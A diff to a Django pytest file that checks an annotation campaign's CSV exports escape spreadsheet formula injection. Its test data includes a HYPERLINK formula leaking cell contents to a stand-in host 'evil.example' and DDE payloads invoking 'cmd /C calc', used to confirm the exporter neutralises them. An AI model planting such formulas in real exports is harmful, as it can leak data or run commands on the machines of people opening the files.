@@ -13,7 +13,7 @@ import pytest
 from django.core.management import call_command
 from django.urls import reverse
 
-from annotation.models import Campaign
+from annotation.models import Campaign, Label
 from annotation.review import write_export
 from annotation.services import adjudicate
 from benchmark import exports
@@ -29,6 +29,8 @@ from tests import campaign_data
 from tests.conftest import Personas
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点这里")'
+LABEL_FORMULAS = ("-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r@SUM(A1)")
+DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
 
 
 @pytest.mark.parametrize(
@@ -62,6 +64,9 @@ def campaign(personas: Personas) -> Campaign:
     Campaign.objects.filter(pk=campaign.pk).update(name="=cmd|' /C calc'!A0")  # a hostile campaign name too
     campaign.refresh_from_db()
     item = campaign_data.dispute_one(campaign, personas)
+    # the annotators' own rationales, written as formulas (the label CSV is where they land)
+    for label, text in zip(item.labels.order_by("pk"), LABEL_FORMULAS, strict=True):
+        Label.objects.filter(pk=label.pk).update(rationale=text)
     adjudicate(item, personas.reviewer, campaign_data.RISKY, rationale=FORMULA, note="@SUM(1+1)")
     return campaign
 
@@ -81,7 +86,9 @@ def test_the_label_and_accepted_csv_escape_formulas_and_keep_scores_as_numbers(c
     assert float(accepted["score_R1"]) == -1
     labels = _csv(campaign, "labels")
     assert {row["score_R1"] for row in labels} == {"0", "-1"}
-    assert not any(cell.startswith(("=", "+", "@")) for row in labels for cell in row.values())
+    assert sorted(row["rationale"] for row in labels) == sorted("'" + text for text in LABEL_FORMULAS)
+    numbers = {key for key in labels[0] if key.startswith("score_")}
+    assert not any(cell.startswith(DANGEROUS) for row in labels for key, cell in row.items() if key not in numbers)
 
 
 def test_the_export_page_job_and_command_write_the_escaped_csv(
@@ -90,7 +97,8 @@ def test_the_export_page_job_and_command_write_the_escaped_csv(
     client = client_as(personas.ml_engineer)
     page = client.get(reverse("campaigns:export", args=[campaign.pk]), {"what": "accepted", "format": "csv"})
     body = page.content.decode("utf-8-sig")
-    assert "'" + FORMULA.replace('"', '""') in body and "\n=HYPERLINK" not in body and ",=HYPERLINK" not in body
+    rows = list(csv.DictReader(io.StringIO(body)))
+    assert [row["rationale"] for row in rows] == ["'" + FORMULA]
     out = tmp_path / "accepted.csv"
     call_command("export_labels", str(campaign.pk), "accepted", "csv", str(out), stdout=io.StringIO())
     assert out.read_bytes().decode("utf-8-sig") == body
